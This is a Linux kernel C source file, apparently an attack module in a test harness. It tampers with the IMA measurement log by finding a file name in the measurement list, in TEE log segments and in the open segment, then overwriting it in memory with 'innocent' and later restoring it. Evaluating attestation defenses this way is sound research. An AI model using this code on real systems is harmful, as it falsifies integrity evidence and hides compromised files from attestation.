// SPDX-License-Identifier: GPL-2.0-only
/*
 * An attack on what was measured: an entry of the list, before anybody has read it. In
 * the place of a file's name, which must be "attacked", stands another one.
 */
#include <linux/fs.h>
#include <linux/rbtree.h>
#include <linux/refcount.h>
#include <linux/string.h>

#include "attack.h"
#undef pr_fmt
#include "ima.h"

#define NAME	"attacked"
#define LEN	(sizeof(NAME) - 1)

/* As in measure.h: what a closed segment is kept as. An unpatched kernel has none. */
struct stored {
	struct rb_node node;
	refcount_t refs;
	__le64 first;
	__le32 count;
	__le32 len;
	u8 mac[32];
	u8 *data;
};

static u8 *place;

static u8 *find_name(u8 *data, size_t len)
{
	size_t i;

	for (i = 0; i + LEN <= len; i++)
		if (!memcmp(data + i, NAME, LEN))
			return data + i;
	return NULL;
}

/* IMA's own list. */
static u8 *find_in_list(void)
{
	struct list_head *list = find_symbol("ima_measurements");
	struct ima_queue_entry *qe;
	u8 *found = NULL;
	int i;

	if (!list)
		return NULL;
	list_for_each_entry(qe, list, later)
		for (i = 0; i < qe->entry->template_desc->num_fields && !found; i++)
			found = find_name(qe->entry->template_data[i].data,
					  qe->entry->template_data[i].len);
	return found;
}

/* The TEE's closed segments, in normal memory. */
static u8 *find_in_segments(void)
{
	struct rb_root *root = find_symbol("log_closed");
	struct rb_node *node;
	u8 *found = NULL;

	for (node = root ? rb_first(root) : NULL; node && !found; node = rb_next(node)) {
		struct stored *stored = rb_entry(node, struct stored, node);

		found = find_name(stored->data, le32_to_cpu(stored->len));
	}
	return found;
}

/* The segment that is still open. Nothing is to be measured before this is undone. */
static u8 *find_in_open(void)
{
	u8 **data = find_symbol("open_data");
	u32 *len = find_symbol("open_len");

	return data && *data && len ? find_name(*data, *len) : NULL;
}

static int rename_at(u8 *found)
{
	place = found;
	return place ? poke(place, "innocent", LEN) : -ENOENT;
}

int attack_log(const struct target *t)
{
	return rename_at(find_in_segments() ?: find_in_list());
}

int attack_log_open(const struct target *t)
{
	return rename_at(find_in_open());
}

void undo_log(void)
{
	if (place)
		poke(place, NAME, LEN);
	place = NULL;
}
